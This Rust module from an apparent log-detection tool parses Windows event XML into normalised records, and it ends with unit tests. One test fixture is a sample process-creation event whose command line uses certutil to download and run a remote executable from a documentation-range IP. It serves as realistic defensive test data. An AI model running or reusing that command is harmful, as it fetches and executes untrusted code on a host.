//! Windows events as XML: what Windows Event Forwarding collects (the rendered `<Event>` of a
//! subscription), `wevtutil qe … /f:xml`, `Get-WinEvent … | % ToXml` and NXLog's `to_xml()`.
//!
//! Each `<Event>` element is turned into the JSON shape the `evtx` crate gives for the same
//! record and flattened by [`crate::normalize::windows_flatten`], so an event raises the same
//! rules whether it came as EVTX, as XML or through a forwarder. `RenderingInfo` (the localised
//! message text WEF adds with `ContentFormat=RenderedText`) is kept as `RenderedMessage`.

use quick_xml::events::{BytesStart, Event as X};
use quick_xml::Reader;
use serde_json::{Map, Value};

use crate::normalize::{windows_flatten, Normalized};

/// Largest single `<Event>` read (a rendered event is a few KiB).
const MAX_EVENT: usize = 1 << 20;

/// Whether `text` starts (after white space and an XML declaration) like Windows event XML.
pub fn looks_like(text: &str) -> bool {
    let t = text.trim_start();
    let t = if t.starts_with("<?xml") {
        t.split_once("?>").map_or(t, |(_, r)| r.trim_start())
    } else {
        t
    };
    let t = t.strip_prefix("<Events>").map_or(t, str::trim_start);
    t.starts_with("<Event ") || t.starts_with("<Event>")
}

/// The `<Event>…</Event>` elements of `text` (concatenated as `wevtutil` writes them, or
/// inside `<Events>`), each read into a record, or the reason it could not be (with its
/// 1-based position).
pub fn events(text: &str) -> Vec<Result<Normalized, String>> {
    let mut out = Vec::new();
    let mut rest = text;
    let mut i = 0;
    while let Some(start) = find_event_start(rest) {
        i += 1;
        let from = &rest[start..];
        let Some(end) = from.find("</Event>") else {
            out.push(Err(format!("event {i}: no closing </Event>")));
            break;
        };
        let one = &from[..end + "</Event>".len()];
        out.push(if one.len() > MAX_EVENT {
            Err(format!("event {i}: larger than {MAX_EVENT} bytes"))
        } else {
            event(one).map_err(|e| format!("event {i}: {e}"))
        });
        rest = &from[end + "</Event>".len()..];
    }
    out
}

fn find_event_start(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = s[from..].find("<Event") {
        let at = from + p;
        match s.as_bytes().get(at + 6) {
            Some(b' ' | b'>' | b'\n' | b'\r' | b'\t') => return Some(at),
            _ => from = at + 6,
        }
    }
    None
}

fn attrs(e: &BytesStart<'_>, d: quick_xml::encoding::Decoder) -> Map<String, Value> {
    let mut m = Map::new();
    for a in e.attributes().flatten() {
        let k = String::from_utf8_lossy(a.key.local_name().as_ref()).into_owned();
        let v = a
            .decode_and_unescape_value(d)
            .map(|v| v.into_owned())
            .unwrap_or_else(|_| String::from_utf8_lossy(&a.value).into_owned());
        m.insert(k, Value::String(v));
    }
    m
}

/// One `<Event>` element as a record.
pub fn event(xml: &str) -> Result<Normalized, String> {
    let mut r = Reader::from_str(xml);
    // Path of local element names below <Event>, with their attributes.
    let mut path: Vec<(String, Map<String, Value>)> = Vec::new();
    let mut system = Map::new();
    let mut event_data = Map::new();
    let mut unnamed: Vec<Value> = Vec::new();
    let mut user_data = Map::new();
    let mut rendered = None;
    let mut text = String::new();
    let mut seen_event = false;
    loop {
        let ev = r
            .read_event()
            .map_err(|e| format!("not well-formed XML at byte {}: {e}", r.error_position()))?;
        match ev {
            X::Start(e) => {
                let name = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                if path.is_empty() {
                    if name != "Event" {
                        return Err(format!("root element is <{name}>, not <Event>"));
                    }
                    seen_event = true;
                }
                path.push((name, attrs(&e, r.decoder())));
                text.clear();
            }
            X::Empty(e) => {
                let name = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                let a = attrs(&e, r.decoder());
                path.push((name, a));
                leaf(
                    &path,
                    None,
                    &mut system,
                    &mut event_data,
                    &mut unnamed,
                    &mut user_data,
                    &mut rendered,
                );
                path.pop();
            }
            X::Text(t) => {
                let s = t
                    .decode()
                    .map(|c| c.into_owned())
                    .unwrap_or_else(|_| String::from_utf8_lossy(&t).into_owned());
                text.push_str(&s);
            }
            X::CData(t) => text.push_str(&String::from_utf8_lossy(&t)),
            X::GeneralRef(g) => {
                // Entity and character references arrive separately from the text.
                let name = String::from_utf8_lossy(&g).into_owned();
                match g.resolve_char_ref() {
                    Ok(Some(c)) => text.push(c),
                    _ => text.push_str(match name.as_str() {
                        "lt" => "<",
                        "gt" => ">",
                        "amp" => "&",
                        "quot" => "\"",
                        "apos" => "'",
                        _ => "",
                    }),
                }
            }
            X::End(_) => {
                let t = std::mem::take(&mut text);
                leaf(
                    &path,
                    Some(t),
                    &mut system,
                    &mut event_data,
                    &mut unnamed,
                    &mut user_data,
                    &mut rendered,
                );
                path.pop();
                if path.is_empty() {
                    break;
                }
            }
            X::Eof => {
                if !seen_event {
                    return Err("no <Event> element".into());
                }
                return Err("the <Event> element is not closed".into());
            }
            _ => {}
        }
    }
    if !unnamed.is_empty() {
        event_data.insert("Data".into(), Value::Array(unnamed));
    }
    let mut ev = Map::new();
    ev.insert("System".into(), Value::Object(system));
    if !event_data.is_empty() {
        ev.insert("EventData".into(), Value::Object(event_data));
    }
    if !user_data.is_empty() {
        ev.insert("UserData".into(), Value::Object(user_data));
    }
    let mut root = Map::new();
    root.insert("Event".into(), Value::Object(ev));
    let mut n = windows_flatten(&Value::Object(root));
    if let Some(m) = rendered {
        n.fields.push(("RenderedMessage".into(), m));
    }
    n.format = "wef-xml";
    Ok(n)
}

/// Files an element that just ended (`text` = its text; `None` for an empty element).
fn leaf(
    path: &[(String, Map<String, Value>)],
    text: Option<String>,
    system: &mut Map<String, Value>,
    event_data: &mut Map<String, Value>,
    unnamed: &mut Vec<Value>,
    user_data: &mut Map<String, Value>,
    rendered: &mut Option<String>,
) {
    let names: Vec<&str> = path.iter().map(|(n, _)| n.as_str()).collect();
    let Some((name, attrs)) = path.last() else {
        return;
    };
    let text = text.map(|t| t.trim().to_string()).filter(|t| !t.is_empty());
    match names.as_slice() {
        ["Event", "System", _] => {
            let v = match (text, attrs.is_empty()) {
                (Some(t), true) => Value::String(t),
                (Some(t), false) => {
                    let mut m = Map::new();
                    m.insert("#text".into(), Value::String(t));
                    m.insert("#attributes".into(), Value::Object(attrs.clone()));
                    Value::Object(m)
                }
                (None, false) => {
                    let mut m = Map::new();
                    m.insert("#attributes".into(), Value::Object(attrs.clone()));
                    Value::Object(m)
                }
                (None, true) => Value::Null,
            };
            system.insert(name.clone(), v);
        }
        ["Event", "EventData", "Data"] => match attrs.get("Name").and_then(Value::as_str) {
            Some(n) => {
                event_data.insert(n.to_string(), text.map_or(Value::Null, Value::String));
            }
            None => unnamed.push(text.map_or(Value::Null, Value::String)),
        },
        ["Event", "EventData", other] if *other != "Data" => {
            event_data.insert(other.to_string(), text.map_or(Value::Null, Value::String));
        }
        ["Event", "UserData", wrapper, leaf_name] => {
            let w = user_data
                .entry(wrapper.to_string())
                .or_insert_with(|| Value::Object(Map::new()));
            if let Value::Object(m) = w {
                m.insert(
                    leaf_name.to_string(),
                    text.map_or(Value::Null, Value::String),
                );
            }
        }
        ["Event", "RenderingInfo", "Message"] => *rendered = text,
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SEC: &str = r#"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}"/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2026-11-25T02:00:00.1234567Z"/><EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID="4" ThreadID="88"/><Channel>Security</Channel><Computer>ws01.stttt.local</Computer><Security/></System><EventData><Data Name="SubjectUserName">an.nv</Data><Data Name="NewProcessName">C:\Windows\System32\certutil.exe</Data><Data Name="CommandLine">certutil -urlcache -split -f http://203.0.113.9/a.exe &amp; a.exe</Data><Data Name="TargetDomainName"/></EventData><RenderingInfo Culture="en-US"><Message>A new process has been created.</Message></RenderingInfo></Event>"#;

    #[test]
    fn security_event_as_evtx_would_give_it() {
        let n = event(SEC).expect("event");
        assert_eq!(n.product, Some("windows"));
        assert_eq!(n.service, Some("security"));
        assert_eq!(n.category, Some("process_creation"));
        assert_eq!(n.get("EventID"), Some("4688"));
        assert_eq!(n.get("Computer"), Some("ws01.stttt.local"));
        assert_eq!(
            n.get("Provider_Name"),
            Some("Microsoft-Windows-Security-Auditing")
        );
        assert_eq!(
            n.get("CommandLine"),
            Some("certutil -urlcache -split -f http://203.0.113.9/a.exe & a.exe")
        );
        assert_eq!(n.get("Image"), Some("C:\\Windows\\System32\\certutil.exe"));
        assert_eq!(n.get("TargetDomainName"), Some(""));
        assert_eq!(n.get("TimeCreated"), Some("2026-11-25T02:00:00.1234567Z"));
        assert_eq!(
            n.get("RenderedMessage"),
            Some("A new process has been created.")
        );
        assert!(looks_like(&format!("<?xml version=\"1.0\"?>\n{SEC}")));
    }

    #[test]
    fn several_events_and_broken_ones() {
        let two = format!("<Events>{SEC}\n{SEC}</Events>");
        let got = events(&two);
        assert_eq!(got.len(), 2);
        assert!(got.iter().all(Result::is_ok));
        let broken = events("<Event><System><EventID>1</System></Event>");
        assert_eq!(broken.len(), 1);
        assert!(broken[0].as_ref().unwrap_err().starts_with("event 1:"));
        let open = events(&SEC[..200]);
        assert!(open[0].as_ref().unwrap_err().contains("no closing"));
        for cut in 0..SEC.len() {
            if SEC.is_char_boundary(cut) {
                let _ = events(&SEC[..cut]);
                let _ = event(&SEC[..cut]);
            }
        }
    }
}
